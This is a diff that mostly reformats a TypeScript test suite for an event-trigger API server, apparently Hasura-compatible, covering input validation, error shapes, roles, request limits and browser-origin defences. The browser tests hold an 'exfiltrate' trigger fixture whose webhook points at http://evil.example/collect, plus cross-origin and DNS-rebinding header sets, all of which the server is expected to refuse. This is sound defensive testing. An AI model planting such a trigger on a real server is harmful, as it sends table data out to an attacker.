@@ -52,20 +52,26 @@ describe('/v1/query', () => {
     expect(res.json.code).toBe('not-exists');
   });
 
-  test.each(['', ';', 'a/b/c', 'application/json; charset'])('a malformed Content-Type (%j) is read as JSON too, not refused with 415', async (type) => {
-    const body = JSON.stringify({ type: 'delete_event_trigger', args: { name: 'x' } });
-    const hasura = await api.post('/v1/query', body, { 'content-type': type });
-    expect(hasura.status).toBe(400);
-    expect(hasura.json.code).toBe('not-exists');
-    const rpc = await api.post('/rpc', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'delete_event_trigger', params: { name: 'x' } }), {
-      'content-type': type,
-    });
-    expect(rpc.status).toBe(200);
-    expect(rpc.json).toMatchObject({ jsonrpc: '2.0', id: 1, error: { code: -32001, data: { code: 'not-exists' } } });
-  });
+  test.each(['', ';', 'a/b/c', 'application/json; charset'])(
+    'a malformed Content-Type (%j) is read as JSON too, not refused with 415',
+    async (type) => {
+      const body = JSON.stringify({ type: 'delete_event_trigger', args: { name: 'x' } });
+      const hasura = await api.post('/v1/query', body, { 'content-type': type });
+      expect(hasura.status).toBe(400);
+      expect(hasura.json.code).toBe('not-exists');
+      const rpc = await api.post('/rpc', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'delete_event_trigger', params: { name: 'x' } }), {
+        'content-type': type,
+      });
+      expect(rpc.status).toBe(200);
+      expect(rpc.json).toMatchObject({ jsonrpc: '2.0', id: 1, error: { code: -32001, data: { code: 'not-exists' } } });
+    },
+  );
 
   test('JSON nested deeper than the parser can follow is "nested too deeply", not a stack overflow', async () => {
-    const res = await api.post('/v1/query', `{"type":"invoke_event_trigger","args":{"name":"x","payload":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`);
+    const res = await api.post(
+      '/v1/query',
+      `{"type":"invoke_event_trigger","args":{"name":"x","payload":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`,
+    );
     expect(res.status).toBe(400);
     expect(res.json).toEqual({ path: '$', error: 'invalid JSON: nested too deeply', code: 'parse-failed' });
   });
@@ -125,7 +131,11 @@ describe('/v1/query', () => {
       ['redeliver_event', { event_id: '00000000-0000-4000-8000-000000000000' }, 'event not found'],
       ['get_event_logs', { name: 'ghost' }, 'event trigger "ghost" does not exist'],
       ['get_event_invocation_logs', { name: 'ghost' }, 'event trigger "ghost" does not exist'],
-      ['pg_get_event_by_id', { event_id: '00000000-0000-4000-8000-000000000000', source: 'default' }, 'event id 00000000-0000-4000-8000-000000000000 does not exist'],
+      [
+        'pg_get_event_by_id',
+        { event_id: '00000000-0000-4000-8000-000000000000', source: 'default' },
+        'event id 00000000-0000-4000-8000-000000000000 does not exist',
+      ],
     ];
     for (const [type, args, error] of cases) {
       const res = await api.query(type, args);
@@ -165,7 +175,14 @@ describe('/v1/query', () => {
     expect(logs.status).toBe(200);
     expect(logs.json).toHaveLength(1);
     const event = logs.json[0];
-    expect(event).toMatchObject({ trigger_name: 'logged', table_name: 'items', delivered: false, error: false, tries: 0, status: 'pending' });
+    expect(event).toMatchObject({
+      trigger_name: 'logged',
+      table_name: 'items',
+      delivered: false,
+      error: false,
+      tries: 0,
+      status: 'pending',
+    });
     expect(event.payload.op).toBe('INSERT');
     expect((await api.query('get_event_logs', { name: 'logged', status: 'processed' })).json).toEqual([]);
     const byId = await api.query('get_event_by_id', { event_id: event.id });
@@ -191,7 +208,11 @@ describe('/rpc (JSON-RPC 2.0)', () => {
     expect(res.json).toEqual({
       jsonrpc: '2.0',
       id: 'x',
-      error: { code: -32001, message: 'event trigger "ghost" does not exist', data: { path: '$.args', error: 'event trigger "ghost" does not exist', code: 'not-exists' } },
+      error: {
+        code: -32001,
+        message: 'event trigger "ghost" does not exist',
+        data: { path: '$.args', error: 'event trigger "ghost" does not exist', code: 'not-exists' },
+      },
     });
     const invalid = await rpc({ jsonrpc: '2.0', id: 1, method: 'delete_event_trigger', params: { name: 5 } });
     expect(invalid.json.error).toMatchObject({ code: -32602, data: { code: 'parse-failed', path: '$.args.name' } });
@@ -249,7 +270,11 @@ describe('X-Hasura-Role', () => {
   });
 
   test('on /rpc the refusal is an application error carrying the same object', async () => {
-    const res = await api.post('/rpc', { jsonrpc: '2.0', id: 3, method: 'create_event_trigger', params: trigger('role_rpc').args }, { 'x-hasura-role': 'user' });
+    const res = await api.post(
+      '/rpc',
+      { jsonrpc: '2.0', id: 3, method: 'create_event_trigger', params: trigger('role_rpc').args },
+      { 'x-hasura-role': 'user' },
+    );
     expect(res.status).toBe(200);
     expect(res.json).toEqual({ jsonrpc: '2.0', id: 3, error: { code: -32006, message: denied.error, data: denied } });
     expect((await api.query('delete_event_trigger', { name: 'role_rpc' })).json.code).toBe('not-exists');
@@ -332,7 +357,11 @@ describe('bounded requests and answers', () => {
     const read = { type: 'get_inconsistent_metadata', args: {} };
     const tooMany = await wide.post('/v1/query', { type: 'bulk', args: [trigger('bulk_big'), ...Array(1000).fill(read)] });
     expect(tooMany.status).toBe(400);
-    expect(tooMany.json).toEqual({ path: '$.args', error: 'a bulk request holds at most 1000 operations, got 1001: split it', code: 'parse-failed' });
+    expect(tooMany.json).toEqual({
+      path: '$.args',
+      error: 'a bulk request holds at most 1000 operations, got 1001: split it',
+      code: 'parse-failed',
+    });
     expect(await catalogSnapshot(wide.pool)).toEqual(before);
     const most = await wide.post('/v1/query', { type: 'bulk', args: Array(1000).fill(read) });
     expect(most.status).toBe(200);
@@ -366,8 +395,22 @@ describe('bounded requests and answers', () => {
 
     beforeAll(async () => {
       const log = pino({ level: 'silent' });
-      const ctx = createOperationContext({ pool: wide.pool, schema: wide.schema, sourceName: 'default', heartbeatTimeoutMs: 30_000, answerLimit: LIMIT, log });
-      const app = await buildApp({ ctx, adminSecret: undefined, bodyLimit: 1_048_576, version: 'test', health: async () => ({ ok: true }), log });
+      const ctx = createOperationContext({
+        pool: wide.pool,
+        schema: wide.schema,
+        sourceName: 'default',
+        heartbeatTimeoutMs: 30_000,
+        answerLimit: LIMIT,
+        log,
+      });
+      const app = await buildApp({
+        ctx,
+        adminSecret: undefined,
+        bodyLimit: 1_048_576,
+        version: 'test',
+        health: () => Promise.resolve({ ok: true }),
+        log,
+      });
       const url = await app.listen({ host: '127.0.0.1', port: 0 });
       close = () => app.close();
       post = async (path, body) => {
@@ -382,7 +425,9 @@ describe('bounded requests and answers', () => {
         select 'public', 'items', 'big', jsonb_build_object('op', 'MANUAL', 'data', jsonb_build_object('old', null, 'new', repeat('x', 10000))),
                now() - make_interval(secs => i)
         from generate_series(1, 30) i`);
-      const { rows } = await wide.pool.query(`select id from ${wide.schema}.event_log where trigger_name = 'big' order by created_at desc limit 1`);
+      const { rows } = await wide.pool.query(
+        `select id from ${wide.schema}.event_log where trigger_name = 'big' order by created_at desc limit 1`,
+      );
       smallEvent = rows[0].id;
       await wide.pool.query(
         `insert into ${wide.schema}.event_invocation_logs (event_id, trigger_name, status, request, response, created_at)
@@ -445,7 +490,10 @@ describe('bounded requests and answers', () => {
       expect(bulk.status).toBe(400);
       expect(bulk.json).toMatchObject({ path: '$.args[1].args', code: 'not-supported' });
       expect(bulk.json.error).toContain('shared with the answers before it in this request');
-      const batch = await post('/rpc', [1, 2].map((id) => ({ jsonrpc: '2.0', id, method: page.type, params: page.args })));
+      const batch = await post(
+        '/rpc',
+        [1, 2].map((id) => ({ jsonrpc: '2.0', id, method: page.type, params: page.args })),
+      );
       expect(batch.status).toBe(200);
       expect(batch.json[0].result).toHaveLength(6);
       expect(batch.json[1].error).toMatchObject({ code: -32004, data: { code: 'not-supported', path: '$.args' } });
@@ -462,7 +510,13 @@ describe('requests from web browsers', () => {
     type: 'create_event_trigger',
     args: { name: 'exfiltrate', table: 'items', webhook: 'http://evil.example/collect', insert: { columns: '*' } },
   };
-  const send = async (base: string, path: string, headers: Record<string, string>, body: unknown = attack, method: 'GET' | 'POST' = 'POST') => {
+  const send = async (
+    base: string,
+    path: string,
+    headers: Record<string, string>,
+    body: unknown = attack,
+    method: 'GET' | 'POST' = 'POST',
+  ) => {
     const res = await request(`${base}${path}`, {
       method,
       headers: { ...(method === 'POST' ? { 'content-type': 'text/plain;charset=UTF-8' } : {}), ...headers },
@@ -483,7 +537,11 @@ describe('requests from web browsers', () => {
   test('a cross-site page cannot create a trigger, on any route, however it sends', async () => {
     const before = await catalogSnapshot(api.pool);
     const browsers: Array<[string, Record<string, string>, RegExp]> = [
-      ['current browsers', { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' }, /other origins are refused \(Origin "http:\/\/evil.example"\)/],
+      [
+        'current browsers',
+        { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
+        /other origins are refused \(Origin "http:\/\/evil.example"\)/,
+      ],
       ['browsers without Sec-Fetch-*', { origin: 'http://evil.example' }, /other origins/],
       ['a sandboxed frame or a file: page', { origin: 'null' }, /other origins/],
       ['another port of this machine', { origin: 'http://127.0.0.1:3000', 'sec-fetch-site': 'same-site' }, /other origins/],
@@ -504,7 +562,10 @@ describe('requests from web browsers', () => {
   test('DNS rebinding: a page whose name now points at 127.0.0.1 is same-origin to the browser, but its Host gives it away', async () => {
     const host = `rebound.evil.example:${port()}`;
     const headers = { host, origin: `http://${host}`, 'sec-fetch-site': 'same-origin' };
-    expectRefused(await send(api.url, '/v1/metadata', headers), /requests addressed to "rebound.evil.example:\d+" are refused: without ADMIN_SECRET/);
+    expectRefused(
+      await send(api.url, '/v1/metadata', headers),
+      /requests addressed to "rebound.evil.example:\d+" are refused: without ADMIN_SECRET/,
+    );
     expectRefused(await send(api.url, '/v1/version', { host }, undefined, 'GET'), /loopback/);
     expectRefused(await send(api.url, '/v1/query', { host: 'rebound.evil.example@127.0.0.1' }), /loopback/);
     expect((await wideOpen('/v1/query', { host: `localhost:${port()}` })).status).toBe(400);
@@ -555,15 +616,33 @@ describe('requests from web browsers', () => {
     const lines: string[] = [];
     const log = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) });
     const ctx = createOperationContext({ pool: api.pool, schema: api.schema, sourceName: 'default', heartbeatTimeoutMs: 30_000, log });
-    const app = await buildApp({ ctx, adminSecret: undefined, host: '127.0.0.1', bodyLimit: 65_536, version: 'test', health: async () => ({ ok: true }), log });
+    const app = await buildApp({
+      ctx,
+      adminSecret: undefined,
+      host: '127.0.0.1',
+      bodyLimit: 65_536,
+      version: 'test',
+      health: () => Promise.resolve({ ok: true }),
+      log,
+    });
     const url = await app.listen({ host: '127.0.0.1', port: 0 });
     try {
       expectRefused(await send(url, '/v1/metadata', { origin: 'http://evil.example' }), /other origins/);
       expectRefused(await send(url, '/rpc', { host: 'evil.example' }), /loopback/);
       const refusals = lines.map((l) => JSON.parse(l)).filter((e) => e.msg === 'request refused');
       expect(refusals).toEqual([
-        expect.objectContaining({ level: 40, path: '/v1/metadata', ip: '127.0.0.1', reason: 'cross-origin request (Origin "http://evil.example")' }),
-        expect.objectContaining({ level: 40, path: '/rpc', ip: '127.0.0.1', reason: 'Host "evil.example" is not a loopback name or address' }),
+        expect.objectContaining({
+          level: 40,
+          path: '/v1/metadata',
+          ip: '127.0.0.1',
+          reason: 'cross-origin request (Origin "http://evil.example")',
+        }),
+        expect.objectContaining({
+          level: 40,
+          path: '/rpc',
+          ip: '127.0.0.1',
+          reason: 'Host "evil.example" is not a loopback name or address',
+        }),
       ]);
     } finally {
       await app.close();
